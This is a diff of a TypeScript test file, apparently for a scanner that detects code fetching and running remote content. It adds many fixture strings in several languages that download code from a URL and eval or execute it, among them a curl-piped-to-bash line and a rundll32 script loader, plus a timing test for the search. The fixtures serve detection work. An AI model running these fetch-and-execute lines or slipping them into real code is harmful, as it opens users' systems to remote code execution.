@@ -138,12 +138,22 @@ const CASES: Record<string, readonly string[]> = {
     `const r = await fetch(u);\nfs.writeFileSync('a.sh', await r.text());\nexecSync('sh a.sh');`,
     `https.get(u, (r) => r.pipe(fs.createWriteStream('/tmp/a.js')).on('finish', () => require('/tmp/a.js')));`,
     `execSync(await fetch(u).then((r) => r.text()));`,
+    `const m = await import("${U}");`,
+    'request(u, (error, response, body) => eval(body));',
   ],
   'other languages': [
     `eval(URI.open("${U}").read)`,
     `eval Net::HTTP.get(URI("${U}"))`,
     'system("curl -s https://x.io/a | bash")',
     `eval get("${U}");`,
+    `eval(open("${U}").read)`,
+    'eval(HTTParty.get(u).body)',
+    'eval(Faraday.get(u).body)',
+    'eval(Kernel.open(u).read)',
+    'eval(OpenURI.open_uri(u).read)',
+    'eval(curl_exec($c));',
+    `rundll32 javascript:a;GetObject("script:${U}")`,
+    'let b = reqwest::blocking::get(u)?.bytes()?;\nfs::write(path, b)?;\nCommand::new(path).spawn()?;',
     `urlretrieve("${U}", "a.py")\nsubprocess.run(["python", "a.py"])`,
     `eval(file_get_contents('${U}'));`,
     `open("a.sh", "w").write(requests.get(u).text)\nos.system("sh a.sh")`,
@@ -329,6 +339,22 @@ test('the search for fetched code is linear in hostile texts', (t) => {
     const ms = timed(128_000);
     t.true(ms < 2_000, `${text}: ${Math.round(ms)} ms`);
     t.log(`${JSON.stringify(text)} ${Math.round(ms)} ms`);
+  }
+});
+
+test('the search for fetched code is linear in one long run of the same text', (t) => {
+  for (const [start, text] of [
+    ['fetch\nx=', '(await '],
+    ['x=(', ' '],
+    ['x=get', ' '],
+    ['DownloadFile(', ' '],
+    ['urlretrieve(', ' '],
+    ['import', ' '],
+    ['curl_exec eval(', ' '],
+  ] as const) {
+    const input = `${start}${text.repeat(16_000 / text.length)})`;
+    const ms = cpuOf(() => fetchedRuns(input));
+    t.true(ms < 1_000, `${start}: ${Math.round(ms)} ms`);
   }
 });
 
